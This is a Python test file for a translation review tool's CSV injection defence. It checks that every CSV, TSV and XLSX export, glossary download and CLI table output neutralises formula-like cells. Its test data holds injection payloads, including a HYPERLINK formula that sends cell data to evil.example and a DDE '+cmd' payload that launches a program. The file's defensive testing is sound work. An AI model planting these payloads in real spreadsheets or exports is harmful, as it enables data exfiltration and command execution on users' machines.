"""Every CSV/TSV/XLSX writer is formula-safe (issue 19, part 3), found through the registries.

A project, a bilingual file and a glossary full of cells a spreadsheet would evaluate (OWASP "CSV Injection":
``=HYPERLINK(…)``, ``@SUM(1)``, ``+cmd|…``, ``-2+3``, a leading TAB) are written by every writer:

* every exporter in ``EXPORTERS`` whose file is CSV/TSV/XLSX (QA and MQM reports included),
* every bilingual format in ``FORMATS`` that writes CSV/TSV/XLSX,
* every glossary output format of ``review-app glossary export --to`` and of the Glossary page's downloads,
* every command-line option that prints CSV/TSV (found by walking the click command tree; a new one fails
  :func:`test_every_tabular_cli_output_is_covered` until it is added here).

A CSV/TSV cell may never start with ``= + - @``, TAB or CR (numbers excepted); an XLSX cell that would is a typed
string with the ``quotePrefix`` style, and shows no added ``'``. Each output must contain a hostile text, so no
check passes on an empty file.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner

from review_app.cli import main
from review_app.formats.base import formula_like
from tests.readers import local_mode

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3",
           "\t=1+1"]
SOURCE = "# 見出し\n\nマスク氏は鷹潭に現れた。トランプ氏も来た。\n\n- 項目です。\n- 二つ目。\n- 三つ目。\n"
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _csv_cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for c in row]


def _assert_csv_safe(text: str, what: str, delimiter: str = ",") -> None:
    cells = _csv_cells(text, delimiter)
    bad = [c for c in cells if formula_like(c) and not _NUMBER.fullmatch(c)]
    assert not bad, f"{what}: cells a spreadsheet would evaluate: {bad[:5]}"
    assert any(h.lstrip("\t") in c for c in cells for h in HOSTILE), f"{what}: no hostile text written at all"


def _assert_xlsx_safe(data: bytes, what: str) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    values: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str):
                    continue
                values.append(cell.value)
                assert cell.data_type == "s", f"{what}: {cell.coordinate} is a {cell.data_type} cell"
                if formula_like(cell.value) and not _NUMBER.fullmatch(cell.value):
                    assert cell.quotePrefix, f"{what}: {cell.coordinate} {cell.value!r} lacks quotePrefix"
    assert any(v in HOSTILE for v in values), f"{what}: the hostile cells are not written verbatim: {values[:20]}"
    assert not [v for v in values if v.startswith("'")], f"{what}: a visible leading quote"


def _assert_safe(path: Path, what: str) -> None:
    if path.suffix == ".xlsx":
        _assert_xlsx_safe(path.read_bytes(), what)
    else:
        _assert_csv_safe(path.read_text(encoding="utf-8"), what, "\t" if path.suffix == ".tsv" else ",")


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from review_app.glossary import Concept, Glossary, Term, TermStatus, save_glossary
    from review_app.models import Role
    from review_app.mqm import MqmService
    from review_app.project import init_project, open_project
    from review_app.qa import run_project
    from review_app.review import Actor

    with local_mode():
        base = tmp_path_factory.mktemp("hostile")
        src = base / "a.ja.txt"
        src.write_text(SOURCE, encoding="utf-8")
        gloss = base / "g.tbx"
        save_glossary(Glossary(concepts=(
            Concept(id="c1", terms=(Term("鷹潭", "ja", TermStatus.FORBIDDEN), Term("イーグルパス", "ja"),
                                    Term("Eagle Pass", "en"))),
            Concept(id="c2", terms=(Term("=マスク", "ja"), Term(HOSTILE[0], "en"))),
            Concept(id="c3", terms=(Term("項目", "ja"), Term("@SUM(1+1)", "en"))),
        ), source_lang="ja", target_lang="en"), gloss)
        proj = base / "proj"
        init_project(proj, source=src, name="hostile", glossary=gloss)
        op = open_project(proj)
        try:
            svc = op.service(Actor("=alice", Role.ADMIN))
            for seg, text in zip(svc.list_segments(), HOSTILE, strict=False):
                svc.save_target(seg.key, text, expected_version=seg.version)
                svc.add_comment(seg.key, text)
            seg = svc.list_segments()[0]
            MqmService(svc).add_annotation(seg.key, start=0, end=3, category="accuracy/mistranslation",
                                           severity="major", note=HOSTILE[2])
            run_project(svc)
        finally:
            op.close()
        return proj


def _spreadsheet_exporters() -> list[str]:
    from review_app.exporters import EXPORTERS, get_exporter

    return [n for n in EXPORTERS.names() if get_exporter(n).extension.endswith((".csv", ".tsv", ".xlsx"))]


def test_the_registries_have_spreadsheet_writers() -> None:
    assert {"csv", "xlsx", "qa-csv", "mqm-csv"} <= set(_spreadsheet_exporters())


@pytest.mark.parametrize("fmt", _spreadsheet_exporters())
def test_every_spreadsheet_exporter_is_formula_safe(fmt: str, hostile_project: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    from review_app.exporters import export_project, get_exporter

    monkeypatch.delenv("REVIEW_APP_DATABASE_URL", raising=False)
    out = tmp_path / f"out{get_exporter(fmt).extension}"
    export_project(hostile_project, fmt, out)
    _assert_safe(out, f"export {fmt}")


def test_every_bilingual_spreadsheet_format_is_formula_safe(tmp_path: Path) -> None:
    from review_app.formats import FORMATS, BilingualFile, BilingualUnit, get_format

    bf = BilingualFile([BilingualUnit(id=f"u{i}", source=f"原文{i}", target=h, notes=[h]) for i, h in
                        enumerate(HOSTILE)], source_lang="ja", target_lang="en")
    covered = 0
    for name in FORMATS.names():
        fmt = get_format(name)
        for ext in fmt.extensions:
            if ext in (".csv", ".tsv", ".xlsx"):
                out = tmp_path / f"{name}{ext}"
                fmt.write(bf, out)
                _assert_safe(out, f"format {name} {ext}")
                back = fmt.read(out)
                assert [u.target for u in back.units] == HOSTILE, f"{name}{ext} round trip"
                covered += 1
    assert covered >= 3


GLOSSARY_OUTPUTS = ("csv", "tsv", "deepl", "xlsx")


def test_every_glossary_output_is_formula_safe(hostile_project: Path, tmp_path: Path) -> None:
    from review_app.commands.glossary import FORMATS
    from review_app.glossary import load_glossary

    assert {f for f in FORMATS if f != "tbx"} == set(GLOSSARY_OUTPUTS)
    gloss = hostile_project.parent / "g.tbx"
    for fmt in GLOSSARY_OUTPUTS:
        out = tmp_path / f"g-{fmt}.{'csv' if fmt == 'deepl' else fmt}"
        res = CliRunner().invoke(main, ["glossary", "export", str(gloss), "-o", str(out), "--to", fmt])
        assert res.exit_code == 0, res.output
        if fmt == "deepl":
            # DeepL reads this file itself: entries starting with = + - @ are left out and named, never guarded
            cells = _csv_cells(out.read_text(encoding="utf-8"))
            assert not [c for c in cells if formula_like(c) or c.startswith("'")]
            assert "イーグルパス" in cells and "left out 2 entries" in res.output and "=マスク" in res.output
            continue
        _assert_safe(out, f"glossary export --to {fmt}")
        back = load_glossary(out)
        texts = {t.text for c in back.concepts for t in c.terms}
        assert {HOSTILE[0], "@SUM(1+1)", "=マスク"} <= texts, f"{fmt}: the reader must undo the guard"


def test_glossary_page_downloads_are_formula_safe(hostile_project: Path) -> None:
    from review_app.app.glossary_ops import FORMATS, export_bytes
    from review_app.glossary import load_glossary

    g = load_glossary(hostile_project.parent / "g.tbx")
    for fmt in FORMATS:
        data = export_bytes(g, fmt)
        if fmt == "csv":
            _assert_csv_safe(data.decode("utf-8"), "Glossary page Download CSV")
        elif fmt == "xlsx":
            _assert_xlsx_safe(data, "Glossary page Download XLSX")


# Options that *read* a tabular file (their choices name input formats), not writers.
INPUT_OPTIONS = {("glossary show", "--format"), ("glossary import", "--format"), ("convert", "--from"),
                 ("translate", "--engine")}


def _run(args: list[str]) -> str:
    res = CliRunner().invoke(main, args)
    assert res.exit_code in (0, 1), (args, res.output)
    return res.stdout


def _cli_outputs(project: Path, tmp: Path) -> dict[tuple[str, str, str], Callable[[], Any]]:
    """How to run each tabular output of the CLI; returns the text printed or the path written."""
    from review_app.exporters import get_exporter

    gloss = project.parent / "g.tbx"
    bilingual = tmp / "in.csv"
    def q(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    # the hostile texts as unit ids too: the QA report's unit column names them
    bilingual.write_text("id,source,target\n" + "".join(f"{q(h)},原文{i}。,{q(h)}\n" for i, h in enumerate(HOSTILE)),
                         encoding="utf-8")

    def export(fmt: str) -> Path:
        out = tmp / f"x-{fmt}{get_exporter(fmt).extension}"
        assert CliRunner().invoke(main, ["export", str(project), "--format", fmt, "-o", str(out)]).exit_code == 0
        return out

    def convert(fmt: str) -> Path:
        out = tmp / f"conv.{fmt}"
        assert CliRunner().invoke(main, ["convert", str(bilingual), str(out), "--to", fmt, "--force"]).exit_code == 0
        return out

    def gexport(fmt: str) -> Path:
        out = tmp / f"gx-{fmt}.{'csv' if fmt == 'deepl' else fmt}"
        assert CliRunner().invoke(main, ["glossary", "export", str(gloss), "-o", str(out), "--to", fmt]).exit_code == 0
        return out

    def meaning() -> tuple[str, str]:
        # a copy of the project whose segments have hostile MT candidates from an engine with a hostile name
        import shutil

        from review_app.models import Candidate
        from review_app.project import open_project

        copy = tmp / "meaning-proj"
        shutil.copytree(project, copy)
        op = open_project(copy)
        try:
            svc = op.service()
            svc.add_candidates([Candidate("=evil", h, {"kind": "test"}, seg.key)
                                for seg, h in zip(svc.list_segments(), HOSTILE, strict=False)])
        finally:
            op.close()
        return "csv", _run(["meaning-engines", str(copy), "--findings", "--format", "csv", "--glossary", str(gloss)])

    table: dict[tuple[str, str, str], Callable[[], Any]] = {
        ("meaning-engines", "--format", "csv"): meaning,
        ("segments", "--format", "tsv"): lambda: ("tsv", _run(["segments", str(project), "--format", "tsv"])),
        ("terms suggest", "--output", "tsv"): lambda: ("tsv", _run(
            ["terms", "suggest", str(project), "--output", "tsv", "--glossary", str(gloss)])),
        ("qa", "--format", "csv"): lambda: ("csv", _run(["qa", str(bilingual), "--format", "csv"])),
        ("compare", "--format", "csv"): lambda: ("metrics", _run(["compare", str(project), "--format", "csv"])),
    }
    for fmt in ("csv", "xlsx", "qa-csv", "mqm-csv"):
        table[("export", "--format", fmt)] = lambda fmt=fmt: export(fmt)
    for fmt in ("csv", "xlsx"):
        table[("convert", "--to", fmt)] = lambda fmt=fmt: convert(fmt)
    for fmt in GLOSSARY_OUTPUTS:
        table[("glossary export", "--to", fmt)] = lambda fmt=fmt: gexport(fmt)
    return table


def _tabular_choices() -> set[tuple[str, str, str]]:
    found: set[tuple[str, str, str]] = set()

    def walk(cmd: click.Command, path: list[str]) -> None:
        if isinstance(cmd, click.Group):
            for name, sub in cmd.commands.items():
                walk(sub, [*path, name])
            return
        for p in cmd.params:
            if isinstance(p.type, click.Choice):
                for choice in p.type.choices:
                    if any(k in str(choice) for k in ("csv", "tsv", "xlsx", "deepl")):
                        key = (" ".join(path), p.opts[0])
                        if key not in INPUT_OPTIONS:
                            found.add((*key, str(choice)))

    walk(main, [])
    return found


def test_every_tabular_cli_output_is_covered(hostile_project: Path, tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("REVIEW_APP_DATABASE_URL", raising=False)
    table = _cli_outputs(hostile_project, tmp_path)
    missing = _tabular_choices() - set(table)
    assert not missing, f"a command writes CSV/TSV/XLSX that this test does not check: {sorted(missing)}"
    for key, run in sorted(table.items()):
        result = run()
        what = " ".join(key)
        if isinstance(result, Path):
            if key[0] == "glossary export" and key[2] == "deepl":
                continue  # checked in test_every_glossary_output_is_formula_safe
            _assert_safe(result, what)
        else:
            kind, text = result
            if key[0] in ("terms suggest", "compare"):  # no hostile text by design: guard checked on any cell
                cells = _csv_cells(text, "\t" if kind == "tsv" else ",")
                assert not [c for c in cells if formula_like(c) and not _NUMBER.fullmatch(c)], what
                continue
            _assert_csv_safe(text, what, "\t" if kind == "tsv" else ",")
